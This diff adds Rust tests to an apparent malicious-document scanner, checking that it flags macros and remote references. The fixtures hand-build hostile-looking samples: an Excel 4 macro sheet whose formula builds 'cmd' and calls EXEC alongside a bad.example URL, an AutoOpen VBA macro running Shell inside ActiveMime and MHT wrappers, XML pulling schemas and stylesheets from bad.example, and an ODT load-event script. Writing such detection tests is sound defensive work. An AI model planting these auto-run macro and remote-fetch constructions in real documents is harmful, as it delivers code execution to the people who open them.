@@ -282,3 +282,114 @@ fn macro_sheets_are_read_as_text() {
         assert!(found.iter().any(|c| c == code), "{code}: {found:?}");
     }
 }
+
+#[test]
+fn macro_sheets_of_binary_workbooks_are_read_as_text() {
+    // BrtFmlaNum: cell, number, flags, length, formula: "cm" & CHAR(100), EXEC.
+    let formula = b"\x17\x02\0c\0m\0\x1e\x64\0\x41\x6f\0\x08\x42\x01\x6e\0";
+    let mut cell = vec![0; 18];
+    cell.extend(u32::try_from(formula.len()).unwrap().to_le_bytes());
+    cell.extend_from_slice(formula);
+    let mut sheet = vec![0x81, 0x01, 0, 9, u8::try_from(cell.len()).unwrap()];
+    sheet.extend(cell);
+    let text: Vec<u8> = "http://bad.example/x".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    sheet.extend([6, u8::try_from(12 + text.len()).unwrap()]);
+    sheet.extend([0; 8]);
+    sheet.extend(u32::try_from(text.len() / 2).unwrap().to_le_bytes());
+    sheet.extend(text);
+    let policy = policy();
+    let loaded = policy.open(None).unwrap();
+    let zip = stored(&[("[Content_Types].xml", b"<x/>"), ("xl/macrosheets/sheet1.bin", &sheet)]);
+    let facts = examine(&Examiner::new(&loaded), "a.xlsb", "application/octet-stream", &zip);
+    let found = codes(&facts);
+    for code in ["macro.xlm", "macro.suspicious"] {
+        assert!(found.iter().any(|c| c == code), "{code}: {found:?}");
+    }
+    assert!(facts.findings.iter().any(|f| f.detail.contains("EXEC")), "{:?}", facts.findings);
+    assert!(facts.urls.contains(&"http://bad.example/x".to_owned()), "{:?}", facts.urls);
+}
+
+/// A zip whose members lie in it as they are.
+fn stored(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let (mut out, mut directory) = (Vec::new(), Vec::new());
+    for (name, data) in members {
+        let at = u32::try_from(out.len()).unwrap();
+        let mut crc = flate2::Crc::new();
+        crc.update(data);
+        let mut head = vec![20, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+        let size = u32::try_from(data.len()).unwrap();
+        [crc.sum(), size, size].iter().for_each(|n| head.extend(n.to_le_bytes()));
+        head.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
+        head.extend([0, 0]);
+        out.extend(b"PK\x03\x04");
+        out.extend(&head);
+        out.extend(name.bytes());
+        out.extend_from_slice(data);
+        directory.extend(b"PK\x01\x02\x14\0");
+        directory.extend(&head);
+        directory.extend([0; 10]);
+        directory.extend(at.to_le_bytes());
+        directory.extend(name.bytes());
+    }
+    let (at, length) = (u32::try_from(out.len()).unwrap(), u32::try_from(directory.len()).unwrap());
+    out.extend(directory);
+    out.extend(b"PK\x05\x06\0\0\0\0");
+    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
+    out.extend([count, count].concat());
+    [length, at].iter().for_each(|n| out.extend(n.to_le_bytes()));
+    out.extend([0, 0]);
+    out
+}
+
+#[test]
+fn parts_that_fetch_or_start_something_are_told() {
+    let mht = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
+        Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\nContent-Location: editdata.mso\r\n\r\n";
+    let project = macros("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n", b"");
+    let mso = {
+        use std::io::Write as _;
+        let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        packed.write_all(&project).unwrap();
+        let mut out = b"ActiveMime\0\0".to_vec();
+        out.resize(0x32, 0);
+        out.extend(packed.finish().unwrap());
+        out
+    };
+    let page = {
+        use base64::Engine as _;
+        [&mht[..], base64::engine::general_purpose::STANDARD.encode(&mso).as_bytes(), b"\r\n--b--\r\n"].concat()
+    };
+    check(vec![
+        ("a.mso", mso, &["macro.present", "macro.autoexec", "macro.suspicious"], &[]),
+        ("b.mht", page.clone(), &["macro.present", "macro.autoexec"], &[]),
+        ("c.doc", page, &["macro.present", "macro.autoexec"], &[]),
+        (
+            "d.xml",
+            b"<?xml version='1.0'?><Schema><xs:redefine schemaLocation='http://bad.example/x.xsd'/></Schema>".to_vec(),
+            &["office.external-object"],
+            &[],
+        ),
+        (
+            "e.xml",
+            b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='\\\\bad.example\\x.xsl'?><w:document/>".to_vec(),
+            &["office.external-template"],
+            &[],
+        ),
+        ("f.xml", b"<?xml version='1.0'?><?xml-stylesheet href='own.xsl'?><a/>".to_vec(), &[], &["office."]),
+        (
+            "g.odt",
+            stored(&[
+                ("mimetype", b"application/vnd.oasis.opendocument.text"),
+                (
+                    "content.xml",
+                    b"<?xml version='1.0'?><office:document-content><office:scripts><office:event-listeners>\
+                    <script:event-listener script:language='ooo:script' script:event-name='dom:load' \
+                    xlink:href='vnd.sun.star.script:pythonSamples|TableSample.py$x?language=Python&amp;location=share'/>\
+                    </office:event-listeners></office:scripts></office:document-content>",
+                ),
+            ]),
+            &["macro.present", "macro.autoexec"],
+            &[],
+        ),
+    ]);
+}
